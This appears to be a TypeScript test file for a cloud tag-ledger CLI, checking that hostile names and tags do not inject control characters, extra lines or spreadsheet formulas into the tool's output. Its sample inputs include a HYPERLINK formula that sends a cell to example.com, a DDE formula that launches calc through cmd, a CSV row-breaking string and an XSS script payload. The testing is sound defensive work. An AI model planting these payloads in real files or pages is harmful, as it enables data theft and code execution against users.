import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { stripVTControlCharacters } from 'node:util';
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { run, temporaryFolder } from '../support/cli/command-line.ts';
import { launch, tagging } from '../support/cloudtrail/trail.ts';
import { HOSTILE, UNSEEN } from './hostile.ts';

const test = suite('hostile text on the command line');
const folder = temporaryFolder(test);
const POLICY = join(folder, 'policy.json');

const MORE: typeof HOSTILE = [
  ['a formula', '=HYPERLINK("http://example.com/?x="&A1;"all is well")'],
  ['a formula behind white space', '\t@SUM(1+1)*cmd|" /C calc"!A0'],
  ['quotes and a line of its own', 'no","compliant\r\n"compliant","i-0ffffffffffffffff'],
  ['HTML', '<script>alert(1)</script><img src=x onerror=alert(1)>'],
];

const TEXTS_OF_ALL = [...HOSTILE, ...MORE];
const idOf = (n: number): string => `i-0a1b2c3d4e5f607${String(n).padStart(2, '0')}`;

/** A ledger, exported to a file, in which the n-th instance has such a text in its maker's name and in two tags. */
const ledgerWith = async (name: string, textOf: (n: number) => string): Promise<string> => {
  const [ledger, trail, file] = ['', '.trail.json', '.ndjson.gz'].map((end) => join(folder, `${name}${end}`));
  assert.ok(ledger && trail && file);
  const records = TEXTS_OF_ALL.flatMap((_, n) => {
    const text = textOf(n);
    const userIdentity = { type: 'IAMUser', userName: text, arn: `arn:aws:iam::111122223333:user/${text}` };
    const items = [{ resourceType: 'instance', tags: [{ key: 'Name', value: text }] }];
    return [
      launch([idOf(n)], { userIdentity, requestParameters: { tagSpecificationSet: { items } } }),
      tagging(idOf(n), { Team: text }, { eventID: `tagging ${n}`, userIdentity }),
    ];
  });
  writeFileSync(trail, JSON.stringify({ Records: records }));
  const rejects = `${ledger}.rejects`;
  assert.is((await run(['ingest', '--simulate', trail, '--ledger', ledger, '--rejects', rejects])).code, 0);
  assert.is((await run(['export', '--ledger', ledger, '--out', file])).code, 0);
  return file;
};

const ledgers = { calm: '', hostile: '' };
test.before(async () => {
  ledgers.calm = await ledgerWith('calm', () => 'ada');
  ledgers.hostile = await ledgerWith('hostile', (n) => TEXTS_OF_ALL[n]?.[1] ?? '');
});

writeFileSync(
  POLICY,
  JSON.stringify({ tagledger: 1, rules: [{ key: 'Team', values: ['core'] }, { key: 'Owner' }] }),
);

const COMPLIANCE = ['compliance', '--policy', POLICY, '--status', 'violating', '--status', 'compliant'];

/** What people read, of all resources and of one. */
const READ: readonly (readonly string[])[] = [
  ['list'],
  ['changes', '--from', '2026-03-01'],
  COMPLIANCE,
  ['verify'],
  ...TEXTS_OF_ALL.flatMap((_, n) => ['state', 'history', 'timeline', 'why'].map((one) => [one, idOf(n)])),
];

/** What programs read, one value a line. */
const LINES: readonly (readonly string[])[] = [
  ...['list', 'changes'].map((command) => [command, '--format', 'ndjson']),
  ...['ndjson', 'ocsf', 'asff'].map((format) => [...COMPLIANCE, '--format', format]),
  ...TEXTS_OF_ALL.flatMap((_, n) =>
    ['history', 'timeline'].map((one) => [one, idOf(n), '--format', 'ndjson']),
  ),
];

const linesOf = (text: string): string[] => text.split('\n').filter(Boolean);

/** The cells of a CSV text, by RFC 4180. */
const cellsOf = (csv: string): string[][] =>
  [...csv.matchAll(/((?:"(?:[^"]|"")*"|[^",\r\n]*)(?:,(?:"(?:[^"]|"")*"|[^",\r\n]*))*)(?:\r\n|$)/g)]
    .map(([, row = '']) => row)
    .filter((row) => row !== '')
    .map((row) =>
      [...row.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^",]*))/g)].map(([, quoted, bare]) =>
        (quoted ?? bare ?? '').replaceAll('""', '"'),
      ),
    );

/** The same command over both ledgers. */
const both = async (args: readonly string[]) => {
  const [calm, hostile] = [ledgers.calm, ledgers.hostile].map((ledger) => run([...args, '--ledger', ledger]));
  assert.ok(calm && hostile);
  return { calm: await calm, hostile: await hostile };
};

test('supports evidence for CC6.1: what people read has no more lines for hostile names and tags, and no hidden characters', async () => {
  for (const args of READ) {
    const command = args.join(' ');
    const { calm, hostile } = await both(args);
    assert.is(linesOf(hostile.out).length, linesOf(calm.out).length, command);
    assert.is(hostile.code, calm.code, command);
    assert.not.match(`${hostile.out}${hostile.said}`.replaceAll('\n', ''), UNSEEN, command);
  }
});

test('supports evidence for CC6.1: on a terminal, colours are the only escapes, and are not in what comes from names and tags', async () => {
  const terminal = { width: 80, colour: false, unicode: true };
  // Some commands say at which moment they were asked.
  const withoutMoments = (text: string) => text.replace(/\d{4}-\d\d-\d\dT[\d:.]+Z/g, 'T');
  for (const args of READ) {
    const command = args.join(' ');
    const asked = [...args, '--ledger', ledgers.hostile];
    const plain = await run(asked, {}, terminal);
    const coloured = await run(asked, {}, { ...terminal, colour: true });
    assert.not.match(plain.out.replaceAll('\n', ''), UNSEEN, command);
    assert.is(withoutMoments(stripVTControlCharacters(coloured.out)), withoutMoments(plain.out), command);
  }
});

test('supports evidence for CC6.1: what programs read is one value a line, with no control character of ASCII, and brings the text back', async () => {
  for (const args of LINES) {
    const command = args.join(' ');
    const { calm, hostile } = await both(args);
    const lines = linesOf(hostile.out);
    assert.is(lines.length, linesOf(calm.out).length, command);
    for (const line of lines) JSON.parse(line);
    assert.equal(
      [...lines.join('')].filter((character) => character < ' '),
      [],
      command,
    );
  }
  const rows = linesOf((await both(['list', '--format', 'ndjson'])).hostile.out).map((line) =>
    JSON.parse(line),
  );
  const named = rows.flatMap(({ id, tags }) =>
    id.startsWith('i-') ? [tags.find(({ key }: { key: string }) => key === 'Name').value] : [],
  );
  assert.equal(named.sort(), TEXTS_OF_ALL.map(([, text]) => text).sort());
});

test('supports evidence for CC6.1: no cell of a CSV is a formula, and none breaks out of its row', async () => {
  const { calm, hostile } = await both([...COMPLIANCE, '--format', 'csv']);
  const [before, after] = [cellsOf(calm.out), cellsOf(hostile.out)];
  assert.ok(after.length > TEXTS_OF_ALL.length);
  assert.equal(
    after.map((row) => row.length),
    before.map((row) => row.length),
  );
  for (const cell of after.flat()) assert.not.match(cell, /^\s*[=+\-@]/);
});

test.run();
